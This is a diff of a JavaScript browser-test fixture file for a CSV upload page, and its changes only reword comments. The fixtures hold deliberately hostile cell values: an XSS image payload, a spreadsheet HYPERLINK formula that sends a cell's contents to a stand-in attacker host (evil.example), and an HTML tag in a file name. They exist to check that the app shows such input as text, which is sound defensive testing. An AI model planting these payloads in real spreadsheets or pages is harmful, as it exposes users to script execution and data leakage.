@@ -1,4 +1,4 @@
-// Every view of the page, with what is longest and most hostile on it.
+// Every view of the page, with long and hostile text.
 import { choose, enter, signIn } from "./browser.js";
 import { badRow, csv, file, goodRow } from "./files.js";
 
@@ -7,10 +7,10 @@ const PICTURE = "<img src=x onerror=document.title='run'>";
 const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Select me")';
 const LONG = "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft".repeat(2);
 
-/** Cells that must show as the text that they are. */
+/** Cells that must be shown as text. */
 export const HOSTILE = [SCRIPT, PICTURE, FORMULA];
 
-/** A file of which every row has an error, hostile and long. */
+/** A file with hostile and long cells, in which every row has an error. */
 export const HOSTILE_FILE = csv(
   badRow("hostile.one", { first: SCRIPT, last: FORMULA }),
   badRow("a".repeat(40), { first: LONG }),
@@ -21,7 +21,7 @@ export const HOSTILE_FILE = csv(
 
 const GOOD_FILE = csv(goodRow("dialogue.one"), goodRow("dialogue.two"));
 
-/** Uploads of every kind: 1 succeeded, 2 with errors, 3 no table at all, 4 undone. */
+/** Makes one upload of each kind: 1 succeeds, 2 has errors, 3 is no CSV file, 4 is undone. */
 export async function fillHistory(server, as = "alice") {
   await server.upload("new-hires.csv", csv(goodRow("new.one"), goodRow("new.two"), goodRow("new.three")), { as });
   await server.upload(`${"a-very-long-name-".repeat(8)}<b>.csv`, HOSTILE_FILE, { as });
@@ -32,7 +32,7 @@ export async function fillHistory(server, as = "alice") {
 
 const upload = (page) => page.getByRole("link", { name: "Upload file" });
 
-/** How each view is come to by somebody who has signed in. */
+/** How to open each view after signing in. */
 export const VIEWS = {
   "the history": (page) => page.goto("/"),
   "the history, filtered": (page) => page.goto("/?status=failed&status=undone&users_from=1&uploaded_by=alice"),
@@ -76,7 +76,7 @@ export const VIEWS = {
   "what is not understood": (page) => page.goto("/?users_from=many"),
 };
 
-/** The views of somebody who is not signed in. */
+/** The views before signing in. */
 export const OUTER_VIEWS = {
   "sign-in": (page) => page.goto("/sign-in"),
   "sign-in with a wrong password": async (page) => {
@@ -88,7 +88,7 @@ export const OUTER_VIEWS = {
   },
 };
 
-/** The views of others: no uploads yet, and no right to any. */
+/** The views of other users: one without uploads, and one without the right to upload. */
 export function othersViews(page, password) {
   return {
     "the empty history": () => signIn(page, { login: "newcomer", password }),
@@ -100,7 +100,7 @@ export function othersViews(page, password) {
   };
 }
 
-/** The form, posted as browsers without scripts do. */
+/** Checks a file as browsers without scripts do: by posting the form. */
 async function checkWithoutScript(page, text) {
   await page.goto("/upload");
   await page.getByLabel("Completed CSV file").setInputFiles(file("users.csv", text));
